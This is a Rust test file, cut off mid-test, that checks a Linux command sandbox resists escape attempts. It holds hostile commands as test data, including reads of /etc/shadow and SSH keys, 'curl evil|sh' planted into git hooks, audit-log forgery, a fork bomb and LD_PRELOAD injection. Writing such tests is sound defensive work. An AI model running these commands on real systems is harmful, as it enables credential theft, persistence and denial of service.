//! Integration tests: drive the real `gateway` binary.
//!
//! The escape suite has one test per attack; each asserts that the attack fails under strict
//! (and standard where it should), and controls prove that ordinary work still works and that
//! the attack fixtures do detect an escape when not confined.
//!
//! These tests need what the sandbox needs: Linux with landlock, seccomp, and a privileged
//! (root) broker for namespaces. A test that cannot run fails. Set GATEWAY_TEST_NO_SANDBOX=1
//! to skip the sandbox tests explicitly (CI does not set it).

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;
use std::sync::atomic::{AtomicUsize, Ordering};

const BIN: &str = env!("CARGO_BIN_EXE_gateway");

fn skip() -> bool {
    if std::env::var_os("GATEWAY_TEST_NO_SANDBOX").is_some() {
        eprintln!("skipped: GATEWAY_TEST_NO_SANDBOX is set");
        return true;
    }
    false
}

/// A test that needs the sandbox: skipped only when GATEWAY_TEST_NO_SANDBOX is set.
macro_rules! sandbox_test {
    (fn $name:ident() $body:block) => {
        #[test]
        fn $name() {
            if skip() {
                return;
            }
            $body
        }
    };
}

/// Asserts that a run's stdout does not contain `needle` (a leaked secret, a success marker).
fn assert_stdout_lacks(o: &Output, needle: &str, what: &str) {
    assert!(!stdout(o).contains(needle), "{what}: {}", text(o));
}

/// A fresh directory tree per test: a workspace, a fake home, an outside dir, a state dir.
struct Env {
    root: PathBuf,
    ws: PathBuf,
    home: PathBuf,
    outside: PathBuf,
    state: PathBuf,
}

static COUNTER: AtomicUsize = AtomicUsize::new(0);

impl Env {
    fn new(name: &str) -> Env {
        let n = COUNTER.fetch_add(1, Ordering::SeqCst);
        let root = PathBuf::from(format!("/tmp/gwt-{name}-{}-{n}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let ws = root.join("ws");
        let home = root.join("home");
        let outside = root.join("outside");
        let state = root.join("state");
        for d in [&ws, &home, &outside, &state] {
            std::fs::create_dir_all(d).expect("mkdir");
        }
        Env {
            root,
            ws,
            home,
            outside,
            state,
        }
    }

    fn cmd(&self) -> Command {
        let mut c = Command::new(BIN);
        c.current_dir(&self.ws)
            .env("HOME", &self.home)
            .env("GATEWAY_STATE_DIR", &self.state)
            .env("GATEWAY_SOCKET", "")
            .env_remove("GATEWAY_POLICY")
            .env_remove("XDG_STATE_HOME")
            .stdin(Stdio::null());
        c
    }

    /// Another program (a wrapper, a pty driver) run with this test's environment.
    fn raw(&self, program: impl AsRef<std::ffi::OsStr>) -> Command {
        let mut c = Command::new(program);
        c.current_dir(&self.ws)
            .env("HOME", &self.home)
            .env("GATEWAY_STATE_DIR", &self.state)
            .env("GATEWAY_SOCKET", "")
            .env_remove("GATEWAY_POLICY")
            .env_remove("XDG_STATE_HOME");
        c
    }

    fn exec(&self, policy: &str, args: &[&str]) -> Output {
        self.cmd()
            .args(["exec", "--policy", policy, "--"])
            .args(args)
            .output()
            .expect("run gateway")
    }

    fn sh(&self, policy: &str, script: &str) -> Output {
        self.exec(policy, &["sh", "-c", script])
    }

    fn write(&self, rel: &str, content: &str) -> PathBuf {
        let p = self.ws.join(rel);
        if let Some(d) = p.parent() {
            std::fs::create_dir_all(d).expect("mkdir");
        }
        std::fs::write(&p, content).expect("write");
        p
    }

    /// Copies the attack fixture into the workspace.
    fn attack(&self) -> String {
        let dst = self.ws.join("attack");
        std::fs::copy(attack_bin(), &dst).expect("copy attack");
        "./attack".into()
    }

    fn policy_file(&self, text: &str) -> String {
        let p = self.root.join("policy.toml");
        std::fs::write(&p, text).expect("write policy");
        p.display().to_string()
    }
}

impl Drop for Env {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

fn text(o: &Output) -> String {
    format!(
        "status={:?}\nstdout:\n{}\nstderr:\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn gcc(src: &Path, out: &Path, extra: &[&str]) {
    let st = Command::new("gcc")
        .args(["-O1", "-o"])
        .arg(out)
        .arg(src)
        .args(extra)
        .status()
        .expect("gcc is required for the escape suite");
    assert!(st.success(), "gcc failed for {}", src.display());
}

/// Builds tests/fixtures/attack.c once per test binary version.
fn attack_bin() -> &'static Path {
    static BIN: OnceLock<PathBuf> = OnceLock::new();
    BIN.get_or_init(|| {
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
        let src = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/attack.c");
        let out = dir.join("attack");
        let stale = match (std::fs::metadata(&out), std::fs::metadata(&src)) {
            (Ok(o), Ok(s)) => o.modified().ok() < s.modified().ok(),
            _ => true,
        };
        if stale {
            let tmp = dir.join(format!("attack-{}", std::process::id()));
            gcc(&src, &tmp, &[]);
            std::fs::rename(&tmp, &out).expect("rename attack");
        }
        out
    })
}

/// Runs an attack mode under `policy` and asserts that it was blocked.
fn assert_attack_blocked(policy: &str, mode: &str, arg: Option<&str>) {
    let env = Env::new(&format!("atk-{mode}"));
    let a = env.attack();
    let mut args = vec![a.as_str(), mode];
    if let Some(x) = arg {
        args.push(x);
    }
    let o = env.exec(policy, &args);
    assert_eq!(o.status.code(), Some(0), "{policy} {mode}: {}", text(&o));
    assert!(
        stdout(&o).contains("BLOCKED"),
        "{policy} {mode}: {}",
        text(&o)
    );
}

/// A process outside the sandbox, killed on drop.
struct Outside(std::process::Child);

impl Outside {
    fn sleep(marker_env: &str) -> Outside {
        Outside(
            Command::new("sleep")
                .arg("300")
                .env("GW_OUTSIDE_SECRET", marker_env)
                .spawn()
                .expect("spawn sleep"),
        )
    }
    fn pid(&self) -> String {
        self.0.id().to_string()
    }
    fn alive(&mut self) -> bool {
        matches!(self.0.try_wait(), Ok(None))
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Asserts that no process whose command line contains `marker` is alive, allowing the kernel
/// a moment to finish killing a namespace.
fn assert_no_survivors(marker: &str, what: &str) {
    let t = std::time::Instant::now();
    while !processes_with(marker).is_empty() && t.elapsed() < std::time::Duration::from_secs(3) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(
        processes_with(marker).is_empty(),
        "{what} survivors: {:?}",
        processes_with(marker)
    );
}

/// Processes whose command line contains `marker` (outside any pid namespace: the host view).
fn processes_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    if let Ok(rd) = std::fs::read_dir("/proc") {
        for e in rd.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if !name.chars().all(|c| c.is_ascii_digit()) {
                continue;
            }
            if let Ok(c) = std::fs::read(e.path().join("cmdline")) {
                let c = String::from_utf8_lossy(&c).replace('\0', " ");
                if c.contains(marker) {
                    found.push(format!("{name}: {c}"));
                }
            }
        }
    }
    found
}

// ---------------------------------------------------------------- filesystem escapes

sandbox_test! {
    fn escape_read_etc_shadow() {
        let env = Env::new("shadow");
        let host = std::fs::read_to_string("/etc/shadow")
            .expect("the test needs a readable /etc/shadow (root)");
        for policy in ["strict", "standard"] {
            let o = env.exec(policy, &["cat", "/etc/shadow"]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            let first = host.lines().next().unwrap_or("root:");
            assert!(!stdout(&o).contains(first), "{policy} leaked /etc/shadow");
        }
    }
}

sandbox_test! {
    fn escape_read_ssh_key_in_home() {
        let env = Env::new("ssh");
        std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
        std::fs::write(env.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL").expect("write");
        let key = env.home.join(".ssh/id_ed25519").display().to_string();
        for policy in ["strict", "standard", "permissive"] {
            let o = env.exec(policy, &["cat", &key]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(
                !stdout(&o).contains("PRIVATE-KEY-MATERIAL"),
                "{policy} leaked the key"
            );
            let o = env.sh(policy, "cat ~/.ssh/id_ed25519; ls -a ~/.ssh");
            assert_stdout_lacks(&o, "PRIVATE-KEY-MATERIAL", &format!("{policy} leaked the key via ~"));
        }
    }
}

sandbox_test! {
    fn escape_read_file_outside_workspace() {
        let env = Env::new("readout");
        let f = env.outside.join("secret.txt");
        std::fs::write(&f, "OUTSIDE-SECRET").expect("write");
        let o = env.exec("strict", &["cat", &f.display().to_string()]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!stdout(&o).contains("OUTSIDE-SECRET"));
        let o = env.exec("strict", &["cat", "../outside/secret.txt"]);
        assert_stdout_lacks(&o, "OUTSIDE-SECRET", "..");
    }
}

sandbox_test! {
    fn escape_read_home_directory_under_strict() {
        let env = Env::new("home");
        std::fs::write(env.home.join("notes.txt"), "HOME-NOTES").expect("write");
        let o = env.sh("strict", "cat \"$0\"/notes.txt; ls \"$0\"");
        assert_stdout_lacks(&o, "HOME-NOTES", "");
        let o = env.exec(
            "strict",
            &["cat", &env.home.join("notes.txt").display().to_string()],
        );
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    }
}

sandbox_test! {
    fn escape_write_outside_workspace() {
        let env = Env::new("writeout");
        let target = env.outside.join("planted");
        for policy in ["strict", "standard"] {
            let o = env.exec(policy, &["touch", &target.display().to_string()]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(!target.exists(), "{policy} wrote outside the workspace");
            let o = env.sh(policy, "echo x > ../outside/planted2");
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(!env.outside.join("planted2").exists());
        }
    }
}

sandbox_test! {
    fn escape_write_global_tmp() {
        let env = Env::new("globaltmp");
        let target = format!("/tmp/gw-escape-{}", std::process::id());
        for policy in ["strict", "standard"] {
            let o = env.exec(policy, &["touch", &target]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(
                !Path::new(&target).exists(),
                "{policy} wrote to the global /tmp"
            );
            // The private TMPDIR works, is not the global /tmp, and is private to the run: a file
            // written there is seen neither on the host nor by the next run.
            let o = env.sh(
                policy,
                "echo ok > \"$TMPDIR/gw-private\" && cat \"$TMPDIR/gw-private\" && echo \"$TMPDIR\"",
            );
            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            let tmpdir = stdout(&o).lines().nth(1).unwrap_or_default().to_string();
            assert!(tmpdir.starts_with("/tmp/") && tmpdir != "/tmp", "{tmpdir}");
            assert!(
                !Path::new(&tmpdir).join("gw-private").exists(),
                "TMPDIR file visible on the host"
            );
            let o = env.sh(policy, "ls -A \"$TMPDIR\"");
            assert_eq!(
                stdout(&o).trim(),
                "",
                "{policy}: the next run sees: {}",
                text(&o)
            );
        }
    }
}

sandbox_test! {
    fn escape_symlink_out_of_workspace() {
        let env = Env::new("symlink");
        std::fs::write(env.outside.join("secret"), "LINKED-SECRET").expect("write");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("out")).expect("symlink");
        std::os::unix::fs::symlink("/etc/shadow", env.ws.join("shadow")).expect("symlink");
        for policy in ["strict", "standard"] {
            let o = env.exec(policy, &["cat", "shadow"]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            let o = env.sh(policy, "echo pwned > out/planted");
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(!env.outside.join("planted").exists());
            // A symlink made inside the sandbox does not help either.
            let o = env.sh(policy, "ln -s /etc/shadow s2 && cat s2");
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
        let o = env.exec("strict", &["cat", "out/secret"]);
        assert_stdout_lacks(&o, "LINKED-SECRET", "");
    }
}

sandbox_test! {
    fn escape_hardlink_creation() {
        let env = Env::new("hardlink");
        let secret = env.outside.join("secret");
        std::fs::write(&secret, "HARDLINK-SECRET").expect("write");
        for policy in ["strict", "standard"] {
            let o = env.sh(policy, &format!("ln {} hl && cat hl", secret.display()));
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(!stdout(&o).contains("HARDLINK-SECRET"));
            // Link a readable system file and write through the link: the original stays intact.
            let o = env.sh(policy, "ln /etc/hostname h2 && echo pwned >> h2");
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
        assert_eq!(
            std::fs::read_to_string(&secret).expect("read"),
            "HARDLINK-SECRET"
        );
        assert!(
            !std::fs::read_to_string("/etc/hostname")
                .unwrap_or_default()
                .contains("pwned")
        );
    }
}

sandbox_test! {
    fn escape_proc_self_root() {
        let env = Env::new("procroot");
        for policy in ["strict", "standard"] {
            for p in [
                "/proc/self/root/etc/shadow",
                "/proc/1/root/etc/shadow",
                "/proc/self/cwd/../outside/x",
            ] {
                let o = env.exec(policy, &["cat", p]);
                assert_ne!(o.status.code(), Some(0), "{policy} {p}: {}", text(&o));
            }
        }
    }
}

sandbox_test! {
    fn escape_inherited_fd() {
        let env = Env::new("fd");
        let secret = env.outside.join("secret");
        std::fs::write(&secret, "FD-SECRET").expect("write");
        // The caller holds fd 5 open on a file outside; the sandboxed command may not use it.
        let o = env
            .raw("sh")
            .arg("-c")
            .arg(format!(
                "exec 5<{}; exec {BIN} exec --policy strict -- sh -c 'cat <&5; ls -l /proc/self/fd'",
                secret.display()
            ))
            .stdin(Stdio::null())
            .output()
            .expect("run");
        assert_stdout_lacks(&o, "FD-SECRET", "");
        assert_stdout_lacks(&o, " 5 -> ", "fd 5 visible");
    }
}

sandbox_test! {
    fn escape_state_dir_unreachable() {
        let env = Env::new("state");
        // A real audit log, keys and artifacts, made by a run.
        let o = env.exec("strict", &["echo", "STATE-RECORD"]);
        assert!(o.status.success(), "{}", text(&o));
        let log = env.state.join("audit/log.jsonl").display().to_string();
        let key = env.state.join("keys/epoch-0.key").display().to_string();
        let arts = env.state.join("audit/artifacts").display().to_string();
        for policy in ["strict", "standard", "permissive"] {
            for target in [&log, &key] {
                let o = env.sh(policy, &format!("cat {target} | wc -c"));
                assert_eq!(stdout(&o).trim(), "0", "{policy}: {target} was readable: {}", text(&o));
            }
            let o = env.sh(policy, &format!("ls {arts} {}", env.state.display()));
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            for target in [&log, &key] {
                let o = env.sh(policy, &format!("echo forged >> {target}"));
                assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            }
            let o = env.sh(policy, &format!("rm -rf {}/*", env.state.display()));
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
        let content = std::fs::read_to_string(&log).expect("read");
        // The attempts are recorded (their arguments say "forged"); nothing else was written.
        assert!(content.lines().all(|l| l.starts_with("{\"seq\":")), "{content}");
        assert!(!content.contains("forged\n"), "{content}");
        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
        assert!(o.status.success(), "{}", text(&o));
        assert!(std::path::Path::new(&key).exists());
    }
}

sandbox_test! {
    fn escape_write_git_hooks_and_config() {
        let env = Env::new("githooks");
        env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        env.write(".git/config", "[core]\n");
        env.write(".envrc", "export A=1\n");
        for policy in ["strict", "standard"] {
            for script in [
                "echo 'curl evil|sh' > .git/hooks/pre-commit",
                "echo '[core] fsmonitor = evil' >> .git/config",
                "mv .git/config .git/config.bak",
                "rm -f .git/hooks/pre-commit.sample",
                "echo evil >> .envrc",
                // Moving the parent away would carry the read-only mounts with it.
                "mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
                "rm -rf .git",
                "mv .envrc .envrc-moved",
            ] {
                let o = env.sh(policy, script);
                assert_ne!(
                    o.status.code(),
                    Some(0),
                    "{policy} `{script}`: {}",
                    text(&o)
                );
            }
            assert!(!env.ws.join(".git/hooks/pre-commit").exists());
            assert_eq!(
                std::fs::read_to_string(env.ws.join(".git/config")).expect("read"),
                "[core]\n"
            );
            // Protected paths that did not exist cannot be planted either: the broker moves what
            // the run created into the quarantine and says so.
            for (script, planted) in [
                ("echo 'curl evil | sh' > .mcp.json", ".mcp.json"),
                (
                    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
                    ".vscode",
                ),
                ("echo 'export PATH=/evil' > .bashrc", ".bashrc"),
            ] {
                let o = env.sh(policy, script);
                assert_eq!(
                    o.status.code(),
                    Some(0),
                    "{policy} `{script}`: {}",
                    text(&o)
                );
                assert!(
                    !env.ws.join(planted).exists(),
                    "{policy}: {planted} was left in the workspace"
                );
                let err = String::from_utf8_lossy(&o.stderr);
                assert!(
                    err.contains("created protected path") && err.contains(planted),
                    "{err}"
                );
            }
            let quarantined = std::fs::read_dir(env.state.join("quarantine"))
                .map(|d| d.count())
                .unwrap_or(0);
            assert!(quarantined >= 3, "{quarantined} quarantined");
            // The rest of .git and the workspace stay writable.
            let o = env.sh(policy, "echo ok > .git/description && echo ok > new.txt");
            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
    }
}

// ---------------------------------------------------------------- network escapes

fn python(env: &Env, policy: &str, code: &str) -> Output {
    env.exec(policy, &["python3", "-c", code])
}

sandbox_test! {
    fn escape_tcp_socket() {
        let env = Env::new("tcp");
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = listener.local_addr().expect("addr").port();
        let code = format!(
            "import socket\ns=socket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
        );
        for policy in ["strict", "standard"] {
            let o = python(&env, policy, &code);
            assert_stdout_lacks(&o, "CONNECTED", policy);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
        // strict: no socket at all.
        let o = python(
            &env,
            "strict",
            "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM)",
        );
        assert!(
            String::from_utf8_lossy(&o.stderr).contains("Operation not permitted"),
            "{}",
            text(&o)
        );
    }
}

sandbox_test! {
    fn escape_udp_socket() {
        let env = Env::new("udp");
        let o = python(
            &env,
            "strict",
            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x',('8.8.8.8',53))\nprint('SENT')",
        );
        assert_stdout_lacks(&o, "SENT", "");
        assert_ne!(o.status.code(), Some(0));
        // connect_tcp policies forbid UDP too.
        let p = env.policy_file("extends = \"strict\"\n[sandbox]\nnetwork = { connect_tcp = [443] }\n");
        let o = python(
            &env,
            &p,
            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprint('UDP')",
        );
        assert_stdout_lacks(&o, "UDP", "");
    }
}

sandbox_test! {
    fn escape_raw_and_netlink_sockets() {
        let env = Env::new("raw");
        for policy in ["strict", "standard", "permissive"] {
            for (fam, ty) in [
                ("AF_INET", "SOCK_RAW"),
                ("AF_NETLINK", "SOCK_RAW"),
                ("AF_PACKET", "SOCK_RAW"),
            ] {
                let code = format!(
                    "import socket\ns=socket.socket(socket.{fam}, socket.{ty}, 0)\nprint('OPENED')"
                );
                let o = python(&env, policy, &code);
                assert_stdout_lacks(&o, "OPENED", &format!("{policy} {fam}"));
            }
        }
    }
}

sandbox_test! {
    fn escape_connect_tcp_port_restriction() {
        let env = Env::new("tcpport");
        let allowed = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let denied = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let ap = allowed.local_addr().expect("addr").port();
        let dp = denied.local_addr().expect("addr").port();
        let p = env.policy_file(&format!(
            "extends = \"strict\"\n[sandbox]\nnetwork = {{ connect_tcp = [{ap}] }}\n"
        ));
        let conn = |port: u16| {
            format!(
                "import socket\nsocket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
            )
        };
        let o = python(&env, &p, &conn(ap));
        assert!(
            stdout(&o).contains("CONNECTED"),
            "allowed port: {}",
            text(&o)
        );
        let o = python(&env, &p, &conn(dp));
        assert_stdout_lacks(&o, "CONNECTED", "denied port");
        let o = python(
            &env,
            &p,
            "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nprint('LISTENING')",
        );
        assert_stdout_lacks(&o, "LISTENING", "bind");
    }
}

sandbox_test! {
    fn escape_unix_sockets_abstract_and_pathname() {
        let env = Env::new("unix");
        let path = env.outside.join("agent.sock");
        let _l1 = std::os::unix::net::UnixListener::bind(&path).expect("bind pathname");
        let name = format!("gw-test-{}", std::process::id());
        let _l2 = {
            use std::os::linux::net::SocketAddrExt;
            let addr =
                std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract");
            std::os::unix::net::UnixListener::bind_addr(&addr).expect("bind abstract")
        };
        for policy in ["strict", "standard", "permissive"] {
            let code = format!(
                "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect({:?})\nprint('CONNECTED')",
                path.display().to_string()
            );
            let o = python(&env, policy, &code);
            assert_stdout_lacks(&o, "CONNECTED", &format!("{policy} pathname"));
            let code = format!(
                "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('\\0{name}')\nprint('CONNECTED')"
            );
            let o = python(&env, policy, &code);
            assert_stdout_lacks(&o, "CONNECTED", &format!("{policy} abstract"));
        }
        assert_attack_blocked("strict", "socket-unix", None);
        // socketpair stays available.
        let env = Env::new("socketpair");
        let a = env.attack();
        let o = env.exec("strict", &[&a, "socketpair"]);
        assert!(stdout(&o).contains("OK socketpair"), "{}", text(&o));
    }
}

sandbox_test! {
    fn standard_loopback_is_private_and_works() {
        let env = Env::new("loopback");
        let code = "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nc=socket.create_connection(s.getsockname())\na,_=s.accept()\nc.send(b'ping')\nprint(a.recv(4).decode())";
        let o = python(&env, "standard", code);
        assert_eq!(stdout(&o).trim(), "ping", "{}", text(&o));
    }
}

// ---------------------------------------------------------------- processes

sandbox_test! {
    fn escape_signal_outside_process() {
        let mut victim = Outside::sleep("x");
        for policy in ["strict", "standard"] {
            assert_attack_blocked(policy, "kill", Some(&victim.pid()));
            let env = Env::new("kill");
            let _ = env.exec(policy, &["kill", "-9", &victim.pid()]);
            assert!(victim.alive(), "{policy}: the outside process was killed");
        }
    }
}

sandbox_test! {
    fn escape_ptrace_outside_process() {
        let victim = Outside::sleep("x");
        for policy in ["strict", "standard", "permissive"] {
            assert_attack_blocked(policy, "ptrace", Some(&victim.pid()));
            assert_attack_blocked(policy, "ptrace-seize", Some(&victim.pid()));
        }
        // ptrace of a process inside the sandbox is denied too (seccomp, not only pid visibility).
        let env = Env::new("ptrace-in");
        let a = env.attack();
        let o = env.sh("strict", &format!("sleep 30 & {a} ptrace $!"));
        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
    }
}

sandbox_test! {
    fn escape_proc_of_outside_process() {
        let victim = Outside::sleep("OUTSIDE-ENV-SECRET");
        let pid = victim.pid();
        let env = Env::new("procpid");
        for policy in ["strict", "standard", "permissive"] {
            for f in ["environ", "cmdline", "mem", "maps"] {
                let o = env.exec(policy, &["cat", &format!("/proc/{pid}/{f}")]);
                assert_ne!(o.status.code(), Some(0), "{policy} {f}: {}", text(&o));
                assert!(!stdout(&o).contains("OUTSIDE-ENV-SECRET"));
            }
            // The pid namespace shows only the sandbox's own processes.
            let o = env.sh(policy, "ls /proc | grep -E '^[0-9]+$' | wc -l");
            let n: usize = stdout(&o).trim().parse().unwrap_or(999);
            assert!(n < 10, "{policy}: {n} processes visible: {}", text(&o));
        }
    }
}

sandbox_test! {
    fn escape_namespaces_and_mounts() {
        for policy in ["strict", "standard", "permissive"] {
            for mode in [
                "mount",
                "umount",
                "chroot",
                "unshare-user",
                "unshare-ns",
                "unshare-net",
                "setns",
                "clone-newuser",
                "clone3",
            ] {
                assert_attack_blocked(policy, mode, None);
            }
        }
    }
}

sandbox_test! {
    fn escape_dangerous_syscalls() {
        for policy in ["strict", "standard", "permissive"] {
            for mode in [
                "io_uring",
                "bpf",
                "keyctl",
                "add_key",
                "perf",
                "userfaultfd",
                "personality",
                "open_by_handle",
                "x32-getpid",
            ] {
                assert_attack_blocked(policy, mode, None);
            }
        }
        let victim = Outside::sleep("x");
        assert_attack_blocked("strict", "x32-ptrace", Some(&victim.pid()));
    }
}

#[test]
fn attack_fixture_detects_escapes_when_not_confined() {
    // The same fixture, run directly (as root, unconfined), reports ESCAPED: the suite can fail.
    if skip() {
        return;
    }
    for mode in ["keyctl", "userfaultfd", "perf", "socket-unix"] {
        let o = Command::new(attack_bin())
            .arg(mode)
            .output()
            .expect("run attack");
        assert!(
            stdout(&o).contains("ESCAPED"),
            "{mode} unconfined: {}",
            text(&o)
        );
    }
    let env = Env::new("fixture");
    let o = Command::new(attack_bin())
        .arg("mknod")
        .current_dir(&env.ws)
        .output()
        .expect("run");
    assert!(
        stdout(&o).contains("ESCAPED"),
        "mknod unconfined: {}",
        text(&o)
    );
    // And the gateway reports a non-zero exit when a confined command fails.
    let o = env.exec("strict", &["false"]);
    assert_eq!(o.status.code(), Some(1));
}

sandbox_test! {
    fn escape_tiocsti_under_a_pty() {
        let env = Env::new("tiocsti");
        let a = env.attack();
        for mode in ["tiocsti", "tiocsti-highbits"] {
            // python's pty module gives the gateway (and so the sandbox) a terminal as stdin.
            let o = env
                .raw("python3")
                .args([
                    "-c",
                    "import pty,sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)",
                ])
                .args([BIN, "exec", "--policy", "strict", "--", &a, mode])
                .output()
                .expect("run under pty");
            assert!(stdout(&o).contains("BLOCKED"), "{mode}: {}", text(&o));
            assert_stdout_lacks(&o, "ESCAPED", mode);
        }
    }
}

sandbox_test! {
    fn escape_mknod_and_capabilities() {
        for policy in ["strict", "standard", "permissive"] {
            assert_attack_blocked(policy, "mknod", None);
            assert_attack_blocked(policy, "caps", None);
            assert_attack_blocked(policy, "setuid", None);
        }
        let env = Env::new("caps");
        let f = env.write("locked", "LOCKED-CONTENT");
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o000)).expect("chmod");
        // CAP_DAC_OVERRIDE: root without it cannot read a mode-000 file.
        let o = env.exec("strict", &["cat", "locked"]);
        assert_stdout_lacks(&o, "LOCKED-CONTENT", "");
        assert_ne!(o.status.code(), Some(0));
        // CAP_CHOWN.
        let a = env.attack();
        let o = env.exec("strict", &[&a, "chown", "locked"]);
        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
        // CAP_NET_RAW (also seccomp): ping needs a raw or ICMP socket.
        let o = env.exec("standard", &["python3", "-c", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nprint('RAW')"]);
        assert_stdout_lacks(&o, "RAW", "");
    }
}

sandbox_test! {
    fn escape_timeout_by_setsid() {
        let env = Env::new("setsid");
        let marker = format!("1{}.25", std::process::id());
        let o = env
            .cmd()
            .args([
                "exec",
                "--policy",
                "strict",
                "--timeout",
                "1",
                "--",
                "sh",
                "-c",
            ])
            .arg(format!(
                "setsid sleep {marker} & setsid sh -c 'sleep {marker}' & sleep {marker}"
            ))
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(124), "{}", text(&o));
        assert_no_survivors(&marker, "setsid");
    }
}

sandbox_test! {
    fn escape_background_survivor() {
        let env = Env::new("bg");
        let marker = format!("2{}.5", std::process::id());
        for policy in ["strict", "standard"] {
            let o = env.sh(
                policy,
                &format!("nohup sleep {marker} >/dev/null 2>&1 & (setsid sleep {marker} &) ; (sleep {marker} & ) ; echo started"),
            );
            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert_no_survivors(&marker, policy);
        }
    }
}

sandbox_test! {
    fn escape_fork_bomb() {
        let env = Env::new("forkbomb");
        // The fixture's bomb hits the process limit.
        let a = env.attack();
        let o = env.exec("strict", &[&a, "forkbomb"]);
        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
        // A shell fork bomb is contained and killed at the timeout, leaving nothing behind.
        let o = env
            .cmd()
            .args([
                "exec",
                "--policy",
                "strict",
                "--timeout",
                "3",
                "--",
                "sh",
                "-c",
                "bomb() { bomb | bomb & }; bomb",
            ])
            .output()
            .expect("run");
        assert!(
            matches!(o.status.code(), Some(124) | Some(0)),
            "{}",
            text(&o)
        );
        // The bomb's shells run `sh -c ... bomb ...`; none may remain.
        assert_no_survivors("bomb | bomb", "fork bomb");
    }
}

sandbox_test! {
    fn escape_memory_hog() {
        let env = Env::new("memhog");
        let p = env.policy_file("extends = \"strict\"\n[sandbox.limits]\nmemory = \"512MiB\"\n");
        let a = env.attack();
        let o = env.exec(&p, &[&a, "memhog"]);
        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
        let o = env.exec(
            &p,
            &[
                "python3",
                "-c",
                "x = bytearray(2 * 1024**3)\nprint('ALLOCATED')",
            ],
        );
        assert_stdout_lacks(&o, "ALLOCATED", "");
        assert_ne!(o.status.code(), Some(0));
    }
}

sandbox_test! {
    fn escape_scrubbed_env_and_ld_preload() {
        let env = Env::new("envscrub");
        let lib_src = env.root.join("inject.c");
        std::fs::write(&lib_src, "#define _GNU_SOURCE\n#include <errno.h>\n#include <stdio.h>\n__attribute__((constructor)) static void i(void){ fprintf(stderr, \"INJECTED into %s\\n\", program_invocation_short_name); }\n").expect("write");
        let lib = env.outside.join("inject.so");
        gcc(&lib_src, &lib, &["-shared", "-fPIC"]);
        for policy in ["strict", "standard", "permissive"] {
            let o = env
                .cmd()
                .args(["exec", "--policy", policy, "--", "env"])
                .env("GITHUB_TOKEN", "ghp_SECRETVALUE1")
                .env("AWS_SECRET_ACCESS_KEY", "AWSSECRETVALUE2")
                .env("DB_PASSWORD", "PASSWORDVALUE3")
                .env("MY_API_KEY", "APIKEYVALUE4")
                .env("SSH_AUTH_SOCK", "/tmp/agent.sock")
                .env("LD_PRELOAD", &lib)
